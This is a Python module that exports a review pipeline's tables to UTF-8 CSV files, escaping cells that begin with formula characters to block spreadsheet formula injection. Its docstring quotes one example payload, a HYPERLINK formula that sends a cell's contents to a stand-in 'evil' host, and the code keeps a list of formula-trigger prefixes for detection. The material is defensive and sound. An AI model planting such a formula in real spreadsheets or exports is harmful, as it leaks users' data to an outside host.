"""CSV exports of the published tables, safe to open in a spreadsheet.

Review text is data, never a formula: a cell that starts with ``=``, ``+``, ``-``, ``@`` (or
their full-width forms), a tab or a carriage return would be evaluated by Excel, LibreOffice
or Google Sheets (CSV/formula injection, e.g. ``=HYPERLINK("http://evil/?"&A1)``). Such cells
are written with a leading ``'``, which spreadsheets show as text and do not evaluate.
Numbers stay numbers (a negative rating is not text). Files are UTF-8 with a BOM so that
Excel shows Chinese correctly, written aside and renamed into place, and always inside
``--out``.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow.parquet as pq

from pipeline.catalog import OUTPUTS, TABLES
from pipeline.errors import UnknownTable
from pipeline.store.duck import file_tables
from pipeline.store.writers import inside, replacing

#: Leading characters that make a spreadsheet cell a formula (OWASP list + full-width forms).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

#: Tables ``revsat export`` can write: the published outputs (from ``OUT/<table>.parquet``) ...
EXPORTABLE = tuple(t.name for t in OUTPUTS)
#: ... and the tables of ``OUT/revsat.duckdb`` only: the history across runs, the run log and
#: the ledger.
HISTORY_EXPORTABLE = tuple(t.name for t in TABLES.values() if not t.output)


def check_tables(out_dir: Path, tables: list[str], duckdb_name: str = "revsat.duckdb") -> None:
    """Raise :class:`~pipeline.errors.UnknownTable` (one message for every bad name) unless
    every name in ``tables`` can be exported from ``out_dir``: checked before any file is
    written."""
    known = (*EXPORTABLE, *HISTORY_EXPORTABLE)
    unknown = [t for t in tables if t not in known]
    if unknown:
        raise UnknownTable(f"unknown table(s) {', '.join(map(repr, unknown))}; one of "
                           f"{', '.join(known)}")
    missing = []
    in_db = file_tables(inside(out_dir, duckdb_name))
    for table in tables:
        if table in EXPORTABLE:
            if not inside(out_dir, f"{table}.parquet").is_file():
                missing.append(table)
        elif table not in in_db:
            missing.append(table)
    if missing:
        raise UnknownTable(f"{out_dir}: no table(s) {', '.join(map(repr, missing))} yet; run "
                           "`revsat score` (or nightly) into this folder first")


def neutralise(value: object) -> object:
    """Return ``value`` safe for a spreadsheet cell: strings starting with a formula
    character get a leading ``'``; lists are joined with spaces first; other values pass."""
    if isinstance(value, list | tuple):
        value = " ".join(str(v) for v in value)
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def export_csv(out_dir: Path, table: str, batch_rows: int = 50_000,
               duckdb_name: str = "revsat.duckdb") -> Path:
    """Write ``OUT/<table>.csv`` from ``OUT/<table>.parquet`` (a history table: from
    ``OUT/revsat.duckdb``) with every text cell neutralised; returns the CSV path. The file
    gets the permissions of a file the process creates (umask), as the Parquet files do."""
    check_tables(out_dir, [table], duckdb_name)
    target = inside(out_dir, f"{table}.csv")
    if table in EXPORTABLE:
        parquet = pq.ParquetFile(inside(out_dir, f"{table}.parquet"))
        _write(target, parquet.schema_arrow.names, parquet.iter_batches(batch_size=batch_rows))
        return target
    import duckdb

    with duckdb.connect(str(inside(out_dir, duckdb_name)), read_only=True) as con:
        reader = con.sql(f'SELECT * FROM "{table}"').to_arrow_reader(batch_rows)
        _write(target, reader.schema.names, reader)
    return target


def _write(target: Path, names: list[str], batches) -> None:
    with replacing(target) as tmp, tmp.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(names)
        for batch in batches:
            columns = [[neutralise(v) for v in col.to_pylist()] for col in batch.columns]
            writer.writerows(zip(*columns, strict=True))
